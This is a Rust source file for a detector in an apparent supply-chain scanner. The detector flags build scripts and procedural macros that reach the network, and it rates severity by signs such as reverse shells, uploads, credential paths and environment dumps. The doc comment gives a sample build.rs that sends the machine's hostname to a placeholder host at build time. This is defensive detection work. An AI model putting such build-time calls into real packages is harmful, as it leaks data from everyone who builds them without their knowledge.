//! Network access while something is built.

use crate::facts::{Fact, Scope};
use crate::rule::detector;
use crate::source::Unit;
use crate::subject::{Findings, Subject};
use crate::{Confidence, Severity};

detector! {
    /// A build script or procedural macro uses the network.
    ///
    /// ## What it does
    /// Looks for network clients, and for other programs that transfer data, in everything that runs
    /// while a package is built: the build script, the procedural macro, and every module that they
    /// include, wherever it lies.
    ///
    /// ## Why is this bad?
    /// This code runs on the machine of everybody who builds the package, with all of their rights,
    /// and before anybody has called a function of it.
    /// Of a thousand popular crates none does it; of the malicious crates that are known a third did.
    /// It is *high* when data leaves the machine or when what comes is run, and *medium* when it looks
    /// like the download of a library that is linked.
    ///
    /// ## Example
    /// ```rust
    /// // build.rs
    /// fn main() {
    ///     let host = std::env::var("HOSTNAME").unwrap_or_default();
    ///     let _ = ureq::get(&format!("https://count.example.invalid/?h={host}")).call();
    /// }
    /// ```
    ///
    /// ## How to fix it
    /// Ship what is needed, or leave fetching it to an explicit command that the user starts.
    BuildTimeNetwork "build-time-network" Malice High High Stable
}

const NETWORK: [Fact; 4] = [
    Fact::Network,
    Fact::PipeToShell,
    Fact::NetworkCommand,
    Fact::ReverseShell,
];

/// What leaves the machine, or makes what comes suspicious.
const WORSE: [Fact; 16] = [
    Fact::PipeToShell,
    Fact::ReverseShell,
    Fact::Upload,
    Fact::RawAddress,
    Fact::ExfilEndpoint,
    Fact::HiddenText,
    Fact::TlsOff,
    Fact::HostIdentity,
    Fact::EnvironmentDump,
    Fact::EnvironmentSecret,
    Fact::CredentialPath,
    Fact::DotEnv,
    Fact::MakeExecutable,
    Fact::Detached,
    Fact::DynamicProcess,
    Fact::DynamicScript,
];

impl BuildTimeNetwork {
    pub(crate) fn detect(subject: &Subject<'_>, findings: &mut Findings) {
        for unit in [Unit::BuildScript, Unit::ProcMacro] {
            let scope = subject.facts().in_unit(unit);
            let direct = scope.has(Fact::Network)
                || scope.has(Fact::PipeToShell)
                || scope.has(Fact::ReverseShell);
            // A text such as `curl -` alone may be advice in a message.
            let command = scope.has(Fact::NetworkCommand) && scope.has(Fact::Process);
            if !(direct || command) {
                continue;
            }
            let worse = worse(&scope);
            let (severity, confidence) = match (worse.len(), direct) {
                (0, true) if is_download(&scope) => (Severity::Medium, Confidence::Low),
                (0, _) => (Severity::Medium, Confidence::Medium),
                (1, _) if is_download(&scope) => (Severity::Medium, Confidence::Medium),
                (1, _) => (Severity::High, Confidence::Medium),
                _ => (Severity::High, Confidence::High),
            };
            let mut shown = NETWORK.to_vec();
            shown.extend(&worse);
            let message = match worse.first() {
                Some(fact) => format!("{} uses the network, and {}", unit.as_str(), fact.phrase()),
                None => format!("{} uses the network", unit.as_str()),
            };
            findings.rated(
                &Self::RULE,
                severity,
                confidence,
                message,
                scope.places(subject, &shown),
            );
        }
    }
}

fn worse(scope: &Scope<'_>) -> Vec<Fact> {
    WORSE.into_iter().filter(|&fact| scope.has(fact)).collect()
}

/// Whether what is fetched is unpacked and linked, as some bindings do.
fn is_download(scope: &Scope<'_>) -> bool {
    scope.has(Fact::FileWrite)
        && !scope.any(&[
            Fact::Upload,
            Fact::PipeToShell,
            Fact::ReverseShell,
            Fact::HiddenText,
        ])
}
